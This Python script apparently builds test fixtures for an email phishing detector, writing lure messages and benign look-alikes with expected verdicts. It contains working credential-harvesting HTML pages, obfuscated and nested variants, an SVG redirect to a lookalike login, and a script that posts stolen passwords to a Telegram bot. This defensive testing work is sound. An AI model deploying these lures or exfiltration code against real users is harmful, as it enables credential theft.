#!/usr/bin/env python3
"""Writes the message-verdict test corpus: messages in the shape of the
December 2020 cold-chain campaign (IBM X-Force) and of current credential
phishing kits, and benign look-alikes of each. expected.tsv lists the
verdict each must get and the reason codes it must carry.

Run from this directory: python3 make_messages.py. The .eml files are
committed; this script documents how they were made.
"""
import base64
import io
import zipfile
from email.message import EmailMessage
from email.utils import formataddr

EXPECTED = []


def write(name, msg, action, codes=()):
    data = msg.as_bytes(policy=msg.policy.clone(linesep="\r\n"))
    with open(name, "wb") as f:
        f.write(data)
    EXPECTED.append((name, action, ",".join(codes)))


def base(from_, subject, to="procurement@acme-logistics.example", reply_to=None):
    msg = EmailMessage()
    msg["From"] = from_
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = "Thu, 03 Dec 2020 09:14:00 +0000"
    msg["Message-ID"] = "<%s@mail.example>" % base64.b32encode(subject.encode()).decode()[:16].lower()
    if reply_to:
        msg["Reply-To"] = reply_to
    return msg


LOGIN_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Haier Biomedical - Secure Document</title>
<style>body{font-family:Arial;background:#eef} .box{width:340px;margin:80px auto}</style>
</head><body><div class="box">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="">
<h3>Haier Biomedical Document Portal</h3>
<p>This quotation request is protected. Sign in with your email account to view the document.</p>
<form method="POST" action="https://procurement-cceop.com/cc/next.php">
<input type="email" name="login" value="procurement@acme-logistics.example" readonly>
<input type="password" name="passwd" placeholder="Password" required>
<button type="submit">View Document</button>
</form></div></body></html>
"""

# 1. The campaign: lookalike sender, free-mail Reply-To, an HTML attachment
# that asks for the password.
msg = base(formataddr(("Haier Biomedical Sales", "sales@haier-biomedical.com")),
           "Request for Quotation - vaccine cold chain (CCEOP)",
           reply_to="haier.quotation@gmail.com")
msg.set_content("Dear Sir/Madam,\n\nPlease find attached our request for "
                "quotation for the Cold Chain Equipment Optimization Platform.\n\n"
                "Regards,\nJohn Smith\nSales Manager, Haier Biomedical\n")
msg.add_attachment(LOGIN_PAGE.encode(), maintype="text", subtype="html",
                   filename="RFQ_CCEOP_2020.html")
write("campaign_attachment.eml", msg, "BLOCK",
      ["MAIL_SENDER_LOOKALIKE", "MAIL_CREDENTIAL_FORM", "MAIL_REPLY_TO_DIVERGES",
       "MAIL_DISPLAY_NAME_SPOOF"])

# 2. The same page hidden behind document.write(atob(...)), sent as a
# generic octet-stream .htm, from a display name that names the brand.
hidden = base64.b64encode(LOGIN_PAGE.encode()).decode()
obfuscated = ("<html><head><title>Loading</title></head><body><script>"
              "document.write(atob('%s'));</script></body></html>\n" % hidden)
msg = base(formataddr(("Haier Biomedical", "rfq@procurement-cceop.com")),
           "RE: Quotation CCEOP lot 7")
msg.set_content("Good day, kindly review the attached quotation and revert.\n")
msg.add_attachment(obfuscated.encode(), maintype="application",
                   subtype="octet-stream", filename="Quotation_Lot7.htm")
write("campaign_obfuscated.eml", msg, "BLOCK",
      ["MAIL_CREDENTIAL_FORM", "MAIL_OBFUSCATED_CONTENT", "MAIL_DISPLAY_NAME_SPOOF"])

# 2b. The same page as an iframe's srcdoc (entity-escaped), from a sender
# that names no brand: the page alone must block.
import html as html_escape
srcdoc = ('<html><head><title>Quotation</title></head><body style="margin:0">'
          '<iframe style="border:0;width:100%%;height:100%%" srcdoc="%s">'
          '</iframe></body></html>\n' % html_escape.escape(LOGIN_PAGE, quote=True))
msg = base(formataddr(("Procurement Desk", "rfq@procurement-cceop.com")),
           "Quotation CCEOP lot 9")
msg.set_content("Good day, kindly review the attached quotation and revert.\n")
msg.add_attachment(srcdoc.encode(), maintype="text", subtype="html",
                   filename="Quotation_Lot9.html")
write("campaign_srcdoc.eml", msg, "BLOCK", ["MAIL_CREDENTIAL_FORM"])

# 3. An SVG "voice message" that sends the reader to a lookalike login.
svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">
<text x="10" y="40">Voice message (0:42) - loading...</text>
<script type="text/javascript"><![CDATA[
var t = "https://micros0ft-voicemail-login.com/play?id=";
window.location.href = t + "58211";
]]></script></svg>
"""
msg = base(formataddr(("Voicemail", "noreply@vm-notify.example")),
           "You have a new voice message")
msg.set_content("A new voice message is attached.\n")
msg.add_attachment(svg.encode(), maintype="image", subtype="svg+xml",
                   filename="VM_0042.svg")
write("svg_redirect.eml", msg, "BLOCK", ["MAIL_ATTACHMENT_REDIRECT"])

# 4. A kit that posts the password to a Telegram bot.
bot_page = """<html><head><title>Microsoft 365 - Sign in</title></head><body>
<h2>Sign in to view shared file</h2>
<input id="em" type="email" placeholder="Email"><input id="pw" type="password" placeholder="Password">
<button onclick="go()">Next</button>
<script>
var api = "https://api.telegram.org/bot6123456789:AAE-x1y2z3/sendMessage";
function go(){
  var m = "E: " + document.getElementById('em').value + " P: " + document.getElementById('pw').value;
  fetch(api, {method:"POST", headers:{"Content-Type":"application/json"},
              body: JSON.stringify({chat_id:"-100123", text:m})});
}
</script></body></html>
"""
msg = base("Shared Files <share@files-notice.example>", "Payment advice shared with you")
msg.set_content("A document has been shared with you.\n")
msg.add_attachment(bot_page.encode(), maintype="text", subtype="html",
                   filename="Payment_Advice.html")
write("chat_api_sink.eml", msg, "BLOCK",
      ["MAIL_CREDENTIAL_FORM", "MAIL_EXFILTRATION_API"])

# 5. The login page inside a ZIP attachment.
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("readme.txt", "Open the invoice in your browser.\n")
    z.writestr("Invoice_88213.html", LOGIN_PAGE)
msg = base("Accounts <accounts@billing-dept.example>", "Invoice 88213 overdue")
msg.set_content("Please see the attached invoice.\n")
msg.add_attachment(buf.getvalue(), maintype="application", subtype="zip",
                   filename="Invoice_88213.zip")
write("zip_attachment.eml", msg, "BLOCK", ["MAIL_CREDENTIAL_FORM"])

# 6. A forwarded lure: the attachment sits in an attached message.
inner = base(formataddr(("Haier Biomedical Sales", "sales@haier-biomedical.com")),
             "Request for Quotation")
inner.set_content("See attachment.\n")
inner.add_attachment(LOGIN_PAGE.encode(), maintype="text", subtype="html",
                     filename="RFQ.html")
msg = base("Colleague <colleague@acme-logistics.example>", "Fwd: Request for Quotation")
msg.set_content("Is this real?\n")
msg.add_attachment(inner)
write("forwarded_lure.eml", msg, "BLOCK", ["MAIL_CREDENTIAL_FORM"])

# 7. Benign: a newsletter with a search box and many tracked links.
news = """<html><body><h1>Acme Weekly</h1>
<form action="https://www.acme-news.example/search" method="get">
<input type="text" name="q" placeholder="Search articles"><button>Search</button></form>
%s
<p>You receive this because you subscribed with procurement@acme-logistics.example.
<a href="https://www.acme-news.example/unsubscribe?u=1">Unsubscribe</a></p>
</body></html>""" % "\n".join(
    '<p><a href="https://click.acme-news.example/t/%d?url=https%%3A%%2F%%2Fwww.acme-news.example%%2Fa%d">Article %d</a></p>'
    % (i, i, i) for i in range(30))
msg = base("Acme Weekly <news@acme-news.example>", "This week at Acme",
           reply_to="editors@acme-news.example")
msg.set_content("Acme Weekly - read online.\n")
msg.add_alternative(news, subtype="html")
write("benign_newsletter.eml", msg, "ALLOW")

# 8. Benign: an HTML report with a chart script, as an attachment.
report = """<html><head><title>Q4 Shipping Report</title>
<script>
function draw(){var c=document.getElementById('c').getContext('2d');
var d=[12,19,3,5,2,3];for(var i=0;i<d.length;i++){c.fillRect(i*30,100-d[i]*4,20,d[i]*4);}}
</script></head><body onload="draw()"><h1>Shipments per week</h1>
<canvas id="c" width="200" height="100"></canvas>
<table><tr><td>Week 1</td><td>12</td></tr></table></body></html>
"""
msg = base("Reports <reports@acme-logistics.example>", "Q4 shipping report")
msg.set_content("The weekly report is attached.\n")
msg.add_attachment(report.encode(), maintype="text", subtype="html",
                   filename="q4_report.html")
write("benign_report.eml", msg, "ALLOW")

# 9. Benign: the real supplier writing from its real domain, with a PDF.
msg = base(formataddr(("Haier Biomedical Sales", "sales@haiermedical.com")),
           "Quotation for ultra-low temperature freezers",
           reply_to="sales@haiermedical.com")
msg.set_content("Dear customer,\n\nPlease find our quotation attached. Details: "
                "https://www.haiermedical.com/products/ult-freezers\n\nBest regards\n")
msg.add_attachment(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
                   maintype="application", subtype="pdf", filename="Quotation.pdf")
write("benign_supplier.eml", msg, "ALLOW")

# 10. Benign: an HTML survey attachment with a form but no password.
survey = """<html><body><h2>Delivery feedback</h2>
<form action="https://survey.acme-news.example/submit" method="post">
<input type="text" name="name" placeholder="Your name">
<input type="email" name="email" placeholder="Email">
<textarea name="comments"></textarea>
<input type="text" name="passport_number" placeholder="Customs reference">
<button>Send</button></form></body></html>
"""
msg = base("Customer Care <care@acme-news.example>", "How was your delivery?")
msg.set_content("We would love your feedback (attached form).\n")
msg.add_attachment(survey.encode(), maintype="text", subtype="html",
                   filename="feedback.html")
write("benign_survey.eml", msg, "ALLOW")

# 11. Benign: a person whose first name is a brand's, from free mail.
msg = base(formataddr(("Chase Miller", "chase.miller1987@gmail.com")),
           "Lunch on Friday?", reply_to="chase.miller1987@gmail.com")
msg.set_content("Hi, are we still on for lunch on Friday?\nChase\n")
write("benign_person.eml", msg, "ALLOW")

# 12. Benign: a mailing list whose Reply-To is the list.
msg = base("Alice <alice@university.example>", "[logistics-l] Cold chain paper",
           reply_to="logistics-l@lists.example.org")
msg.set_content("Has anyone read the new cold chain paper?\n")
write("benign_mailing_list.eml", msg, "ALLOW")

# 13. Display-name spoof from free mail with a lookalike link in the body.
msg = base(formataddr(("PayPal Service", "paypal.service.team@outlook.com")),
           "Your account is limited")
msg.set_content("We noticed unusual activity. Restore access: "
                "https://paypa1-resolution-center.com/signin\n")
write("brand_spoof_link.eml", msg, "BLOCK",
      ["MAIL_DISPLAY_NAME_SPOOF", "LOOKALIKE_HOMOGLYPH"])

# 14. An HTML attachment whose only content is a link to a lookalike.
viewer = """<html><body><p>Your secure document is ready.</p>
<p><a href="https://paypa1.com/documents/view?id=8812">Open document</a></p>
</body></html>
"""
msg = base("Documents <docs@share-notice.example>", "Secure document")
msg.set_content("Open the attached file to view the document.\n")
msg.add_attachment(viewer.encode(), maintype="text", subtype="html",
                   filename="Document.html")
write("attachment_link.eml", msg, "BLOCK", ["LOOKALIKE_HOMOGLYPH"])

# 15. The login page in a ZIP inside the ZIP attachment.
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("Invoice_88214.html", LOGIN_PAGE)
outer = io.BytesIO()
with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as z:
    z.writestr("docs/Invoice_88214.zip", inner.getvalue())
msg = base("Accounts <accounts@billing-dept.example>", "Invoice 88214")
msg.set_content("Please see the attached invoice pack.\n")
msg.add_attachment(outer.getvalue(), maintype="application", subtype="zip",
                   filename="Invoice_pack.zip")
write("nested_zip.eml", msg, "BLOCK", ["MAIL_CREDENTIAL_FORM"])

with open("expected.tsv", "w") as f:
    f.write("# file\texpected action\treason codes that must be present\n")
    for row in EXPECTED:
        f.write("\t".join(row) + "\n")
